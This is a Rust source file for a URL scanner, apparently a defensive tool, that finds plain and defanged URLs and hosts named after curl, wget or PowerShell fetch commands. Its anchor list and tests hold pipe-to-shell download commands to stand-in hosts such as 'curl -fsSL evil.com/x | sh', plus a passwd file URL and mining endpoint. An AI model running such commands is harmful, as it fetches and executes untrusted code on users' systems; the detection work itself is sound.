//! Finds every URL in a text, in one pass that touches only what looks like one.

use super::domain::{has_known_ending, looks_like_file};
use super::extent::Extent;
use super::fetch;
use super::host::{Host, NAME_BYTES_MAX};
use super::refang;
use super::scheme::{self, Scheme};
use super::url::Url;
use crate::skill::Span;
use aho_corasick::{AhoCorasick, AhoCorasickKind, FindIter, MatchKind};
use std::borrow::Cow;
use std::sync::LazyLock;

/// A URL is read no further; servers and browsers rarely accept longer ones (RFC 9110 §4.1 asks
/// for 8,000, but what identifies one stands at its front).
pub const URL_BYTES_MAX: usize = 2_048;

/// How far behind a fetching command its target is looked for.
const COMMAND_BYTES_MAX: usize = 256;

/// Words a command line names after a fetching command before its target.
const COMMAND_WORDS_MAX: usize = 16;

/// Where a URL may be: each is rare enough for the search to fly over everything else.
const ANCHORS: [&str; 19] = [
    "//",
    "\\/\\/",
    "[.]",
    "(.)",
    "{.}",
    "[dot]",
    "(dot)",
    "{dot}",
    "[DOT]",
    "(DOT)",
    "git@",
    "curl ",
    "wget ",
    "iwr ",
    "irm ",
    "-WebRequest ",
    "-webrequest ",
    "-RestMethod ",
    "-restmethod ",
];

/// Leftmost matching lets the search use vector instructions; the other kind does not.
static ANCHOR_SEARCH: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::ContiguousNFA))
        .match_kind(MatchKind::LeftmostFirst)
        .build(ANCHORS)
        .ok()
});

/// Every URL of a text in order, without overlaps, with the bytes it stands on: those with a
/// scheme, those made harmless (`hxxp`, `[.]`), `git@host:path`, and a bare `host.tld/path` behind
/// a command that fetches. What follows the URL in a sentence (`.`, `)`, `>`) is not part of it.
pub fn urls(text: &str) -> Urls<'_> {
    let anchors = ANCHOR_SEARCH.as_ref().map(|search| search.find_iter(text));
    Urls { text, anchors, resume: 0 }
}

/// The iterator of [`urls`].
pub struct Urls<'a> {
    text: &'a str,
    anchors: Option<FindIter<'static, 'a>>,
    resume: usize,
}

impl<'a> Iterator for Urls<'a> {
    type Item = (Span, Url<'a>);

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            let anchor = self.anchors.as_mut()?.next()?;
            if anchor.start() < self.resume {
                continue;
            }
            let (found, seen) = match ANCHORS.get(anchor.pattern().as_usize()).copied() {
                Some("//" | "\\/\\/") => self.with_scheme(anchor.start(), anchor.end()),
                Some("git@") => self.scp(anchor.start(), anchor.end()),
                Some(word) if word.ends_with(' ') => self.after_command(anchor.end()),
                _ => self.bare(anchor.start()),
            };
            self.resume = self.resume.max(seen);
            if found.is_some() {
                return found;
            }
        }
    }
}

/// What a look at an anchor gives: a URL or none, and up to where nothing else is to be found.
type Look<'a> = (Option<(Span, Url<'a>)>, usize);

impl<'a> Urls<'a> {
    /// `scheme://…`, `scheme[:]//…`, `scheme[://]…`, `scheme:\/\/…`.
    fn with_scheme(&self, slashes: usize, after: usize) -> Look<'a> {
        let bytes = self.text.as_bytes();
        let before = bytes.get(self.resume..slashes).unwrap_or_default();
        let (colon, bracketed) = match before {
            [.., b'[', b':', b']'] | [.., b'(', b':', b')'] => (3, false),
            [.., b'[', b':'] => (2, true),
            [.., b':'] => (1, false),
            _ => return (None, 0),
        };
        if bracketed && bytes.get(after) != Some(&b']') {
            return (None, 0);
        }
        let word = before.get(..before.len() - colon).unwrap_or_default();
        let Some((length, scheme, plain_scheme)) = scheme::at_end(word) else { return (None, 0) };
        let start = slashes - colon - length;
        let from = after + usize::from(bracketed);
        let plain = plain_scheme && colon == 1 && after - slashes == 2;
        let extent = Extent::measure(self.text, from, start + URL_BYTES_MAX);
        if extent.end <= from && scheme != Scheme::File {
            return (None, extent.seen);
        }
        let span = Span::new(start, extent.end);
        let (text, from) = if plain && !extent.defanged {
            (Cow::Borrowed(span.of(self.text)), from - start)
        } else {
            let body = undefanged(Span::new(from, extent.end).of(self.text));
            let word = scheme.word();
            (Cow::Owned(format!("{word}://{body}")), word.len() + 3)
        };
        let defanged = !plain_scheme || colon > 1 || extent.bracketed;
        let url = Url::read(scheme, text, from, defanged);
        let seen = if url.is_some() { extent.end } else { extent.seen };
        (url.map(|url| (span, url)), seen)
    }

    /// `git@host:owner/repo`.
    fn scp(&self, start: usize, host: usize) -> Look<'a> {
        let bytes = self.text.as_bytes().get(host..).unwrap_or_default();
        let name = bytes.iter().take(NAME_BYTES_MAX).take_while(|byte| is_host_byte(**byte));
        let colon = host + name.count();
        let name = self.text.get(host..colon).unwrap_or("");
        if !name.contains('.') || self.text.as_bytes().get(colon) != Some(&b':') {
            return (None, colon);
        }
        let extent = Extent::measure(self.text, colon + 1, start + URL_BYTES_MAX);
        let path = Span::new(colon + 1, extent.end).of(self.text);
        let text = Cow::Owned(format!("ssh://git@{name}/{}", path.trim_start_matches('/')));
        let url = Url::read(Scheme::Ssh, text, "ssh://".len(), false);
        (url.map(|url| (Span::new(start, extent.end), url)), extent.end)
    }

    /// `evil[.]com/path` without a scheme: walks back to where the host begins.
    fn bare(&self, anchor: usize) -> Look<'a> {
        let behind = self.text.get(self.resume..anchor).unwrap_or("");
        let host_bytes = behind.bytes().rev().take(NAME_BYTES_MAX);
        let length = host_bytes.take_while(|byte| is_host_byte(*byte)).count();
        let start = anchor - length;
        let extent = Extent::measure(self.text, start, start + URL_BYTES_MAX);
        let span = Span::new(start, extent.end);
        let text = undefanged(span.of(self.text));
        let url = Url::read(Scheme::Unstated, Cow::Owned(text), 0, true)
            .filter(|url| length > 0 && is_bare_host(url.host()));
        (url.map(|url| (span, url)), extent.seen)
    }

    /// The first word behind `curl` and its like that is a host, past options and their values.
    fn after_command(&self, from: usize) -> Look<'a> {
        let bytes = self.text.as_bytes();
        let limit = bytes.len().min(from + COMMAND_BYTES_MAX);
        let (mut at, mut skip) = (from, false);
        for _ in 0..COMMAND_WORDS_MAX {
            let rest = bytes.get(at..limit).unwrap_or_default();
            at +=
                rest.iter().take_while(|byte| matches!(byte, b' ' | b'\t' | b'"' | b'\'')).count();
            let word = bytes.get(at..limit).unwrap_or_default();
            let length = word.iter().take_while(|byte| !fetch::ends_word(**byte)).count();
            let word = word.get(..length).unwrap_or_default();
            if length == 0 || word.windows(2).any(|pair| pair == b"//") || fetch::is_command(word) {
                break;
            }
            if word.starts_with(b"-") {
                skip = fetch::takes_value(word);
            } else if std::mem::take(&mut skip) {
            } else if let Some(found) = self.bare_word(at) {
                let end = found.0.end;
                return (Some(found), end);
            }
            at += length;
        }
        (None, 0)
    }

    fn bare_word(&self, at: usize) -> Option<(Span, Url<'a>)> {
        let extent = Extent::measure(self.text, at, at + URL_BYTES_MAX);
        let span = Span::new(at, extent.end);
        let text = span.of(self.text);
        let text = if extent.defanged { Cow::Owned(undefanged(text)) } else { Cow::Borrowed(text) };
        let url = Url::read(Scheme::Unstated, text, 0, extent.bracketed)?;
        let whole = is_bare_host(url.host())
            && (!url.path().is_empty() || !looks_like_file(url.host().name()));
        whole.then_some((span, url))
    }
}

fn is_host_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_')
}

fn is_bare_host(host: &Host) -> bool {
    match host {
        Host::Name(name) => {
            name.bytes().all(is_host_byte) && name.contains('.') && has_known_ending(name)
        }
        Host::V4(_) | Host::V6(_) => true,
    }
}

fn undefanged(raw: &str) -> String {
    let raw = raw.replace("\\/", "/").replace(" dot ", ".").replace(" [.] ", ".");
    refang::refang(&raw).map_or(raw, |refanged| refanged.text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(text: &str) -> Vec<(String, String)> {
        urls(text).map(|(span, url)| (span.of(text).to_owned(), url.host().to_string())).collect()
    }

    fn check(text: &str, raw: &str, host: &str) {
        assert_eq!(found(text), [(raw.to_owned(), host.to_owned())], "{text}");
    }

    #[test]
    fn a_url_ends_where_the_sentence_goes_on() {
        for (text, raw) in [
            ("see https://evil.com/a.", "https://evil.com/a"),
            ("(https://evil.com/a)", "https://evil.com/a"),
            ("[x](https://evil.com/a_(b))", "https://evil.com/a_(b)"),
            ("[x](https://evil.com/a \"t\")", "https://evil.com/a"),
            ("<https://evil.com/a>", "https://evil.com/a"),
            ("`https://evil.com/a`", "https://evil.com/a"),
            ("'https://evil.com/a';x", "https://evil.com/a"),
            ("**https://evil.com/a**", "https://evil.com/a"),
            ("curl https://evil.com/a|sh", "https://evil.com/a"),
            ("curl https://evil.com/a&&sh", "https://evil.com/a"),
            ("\"https:\\/\\/evil.com\\/a\\n\"", "https:\\/\\/evil.com\\/a"),
            ("<a href=&quot;https://evil.com/a&quot;>", "https://evil.com/a"),
            ("https://evil.com/a?b=c&amp;d=e, and", "https://evil.com/a?b=c&amp;d=e"),
            ("访问https://evil.com/a下载。", "https://evil.com/a"),
            ("https://evil.com/a，然后", "https://evil.com/a"),
            ("git+https://evil.com/a", "https://evil.com/a"),
            ("xhttps://evil.com/a", "https://evil.com/a"),
        ] {
            check(text, raw, "evil.com");
        }
    }

    #[test]
    fn what_was_defanged_is_read_whole() {
        for text in [
            "hxxps://evil[.]com",
            "hXXp://evil.com",
            "h**p://evil.com",
            "https[:]//evil(.)com",
            "https[://]evil[dot]com",
            "hxxp://evil dot com",
            "evil[.]com",
            "EVIL(dot)COM",
            "evil{.}com",
        ] {
            check(text, text, "evil.com");
            assert!(urls(text).all(|(_, url)| url.is_defanged()), "{text}");
        }
        check("x 91[.]92[.]242[.]30/a y", "91[.]92[.]242[.]30/a", "91.92.242.30");
    }

    #[test]
    fn the_host_is_what_a_browser_would_ask() {
        for (text, host) in [
            ("https://good.com@evil.com/x", "evil.com"),
            ("https://a:b@evil.com:8443/x", "evil.com"),
            ("https://evil.com\\@good.com", "evil.com"),
            ("https://evil.com?@good.com", "evil.com"),
            ("https://evil.com#@good.com", "evil.com"),
            ("http://1532817950/", "91.92.242.30"),
            ("http://0x5b.0x5c.0xf2.0x1e/", "91.92.242.30"),
            ("http://[::ffff:91.92.242.30]:80/x", "[::ffff:91.92.242.30]"),
            ("https://%65vil.com/", "evil.com"),
            ("ssh://git@evil.com/x", "evil.com"),
            ("stratum+tcp://evil.com:3333", "evil.com"),
            ("https://<host>/x", "<host>"),
            ("https://${HOST}/x", "${host}"),
            ("file:///etc/passwd", ""),
        ] {
            let hosts: Vec<String> = urls(text).map(|(_, url)| url.host().to_string()).collect();
            assert_eq!(hosts, [host], "{text}");
        }
        let (_, url) = urls("wss://x.evil.com:8443/a/b.TAR?q=1#f").next().unwrap();
        assert_eq!((url.scheme(), url.port(), url.path()), (Scheme::Wss, Some(8443), "/a/b.TAR"));
        assert_eq!((url.query(), url.extension().as_str()), ("q=1", "tar"));
    }

    #[test]
    fn a_fetching_command_needs_no_scheme() {
        for (text, raw, host) in [
            ("curl -fsSL evil.com/x | sh", "evil.com/x", "evil.com"),
            ("curl -o out.sh get.evil.sh|sh", "get.evil.sh", "get.evil.sh"),
            ("curl -X POST -H 'A: b' evil.com", "evil.com", "evil.com"),
            ("iwr evil.com/x -OutFile y", "evil.com/x", "evil.com"),
            ("Invoke-WebRequest \"evil.com/x\"", "evil.com/x", "evil.com"),
            ("wget 91.92.242.30/x", "91.92.242.30/x", "91.92.242.30"),
            ("git clone git@evil.com:a/b.git", "git@evil.com:a/b.git", "evil.com"),
        ] {
            check(text, raw, host);
        }
    }

    #[test]
    fn what_is_no_url_stays_text() {
        for text in [
            "// a comment",
            "a://b",
            "https://",
            "https://...",
            "http://!",
            "sed 's/foo[.]bar/x/'",
            "[0-9]+[.][0-9]+",
            "a(.)b",
            "use curl to fetch install.sh. Then",
            "curl install.sh",
            "git@github",
            "news://x.com",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn a_url_is_read_no_further_than_its_bound() {
        let at = format!("https://evil.com/{}", "a".repeat(URL_BYTES_MAX - 17));
        assert_eq!(found(&at)[0].0, at);
        let past = format!("{at}a");
        assert_eq!(found(&past)[0].0, at);
    }

    proptest! {
        #[test]
        fn any_text_is_read_and_spans_lie_on_characters(
            text in "([hx]{2}p|https?:/|//|\\[|\\.|\\]|[a-zé日@:<>(){} /\\\\?#%0-9]|curl |git@|\
                     \\[dot\\]| dot |com){0,40}",
        ) {
            let mut end = 0;
            for (span, url) in urls(&text) {
                prop_assert!(span.start >= end && span.start < span.end);
                prop_assert!(text.get(span.start..span.end).is_some());
                let _ = (url.path(), url.query(), url.owner(), url.repo(), url.spelt_host());
                end = span.end;
            }
        }
    }
}
